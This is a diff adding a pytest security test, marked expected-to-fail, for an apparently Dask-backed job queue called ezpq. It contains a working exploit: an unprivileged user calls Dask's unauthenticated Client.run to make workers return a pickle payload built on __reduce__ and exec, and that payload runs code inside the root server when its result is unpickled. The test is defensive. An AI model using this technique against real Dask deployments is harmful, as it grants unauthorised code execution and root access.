@@ -2944,3 +2944,62 @@ def test_parked_wait_jobs_cost_nothing_per_change_for_jobs_already_finished(inpu
     assert kind == "ok", answers
     assert answers.count(30_001) == 1 and len(answers) == 100, answers[:3]
 
+
+# ------------------------------------------- the Dask executor unpickles what Dask hands it
+def b_patches_the_dask_workers(scheduler, marker):
+    """User B, without the ezpq key: Dask's scheduler has no authentication,
+    so any local user (or any job, on a --dask-any-user server) can run code
+    in the Dask workers (``Client.run``). B makes the next ezpq task return
+    an object whose pickle runs code where it is unpickled: the ezpq
+    server's Dask client (``gather``), root on a root server."""
+    import distributed
+
+    def patch(marker=marker):
+        import ezpq_mgr.worker.dask_host as host
+
+        class Payload:
+            def __reduce__(self):
+                return (exec, (f"import os; open({marker!r}, 'w').write(str(os.getpid()))",))
+
+        host._run = lambda *args, **kwargs: Payload()
+        return True
+
+    with distributed.Client(scheduler, timeout=30) as client:
+        return list(client.run(patch).values())
+
+
+@needs_root
+@pytest.mark.xfail(strict=True, reason="the server's Dask client unpickles task results (Dask's pickle "
+                   "serializer): whoever can reach the scheduler runs code in ezpq-server; fix proposed "
+                   "in the second attack pass's report")
+def test_what_a_dask_worker_hands_back_runs_nothing_in_the_server(users):
+    distributed = pytest.importorskip("distributed")
+    from server_fixture import free_port
+    from test_dask import _start_scheduler, _start_worker, _stop
+    port = free_port()
+    scheduler_address = f"tcp://127.0.0.1:{port}"
+    scheduler = _start_scheduler(port)
+    worker = _start_worker(scheduler_address)
+    server = None
+    where = tempfile.mkdtemp(prefix="ezpq-attack-dask-")
+    os.chmod(where, 0o777)
+    marker = os.path.join(where, "ran-in-the-server")
+    try:
+        with distributed.Client(scheduler_address, timeout=30) as c:   # the cluster is up
+            c.wait_for_workers(1, timeout=60)
+        server = Server("unix", workers=2, extra=("--dask", scheduler_address, "--dask-any-user"))
+        os.chmod(server.dir, 0o777)
+        assert run_as(users[USERS[1]], b_patches_the_dask_workers, scheduler_address, marker,
+                      cwd=where) == [True]
+        with ezpq.Queue(address=server.address, authkey=server.key) as Q:   # anybody's next job
+            Q.put(abs, -3)
+            job = Q.get(wait=True, timeout=60)
+        ran = open(marker).read() if os.path.exists(marker) else None
+        assert ran != str(server.proc.pid), "B's code ran in the root ezpq-server"
+        assert job["status"] == "completed" and job["output"] == 3, job
+    finally:
+        if server is not None:
+            assert server.stop() == 0
+        _stop(worker)
+        _stop(scheduler)
+        shutil.rmtree(where, ignore_errors=True)
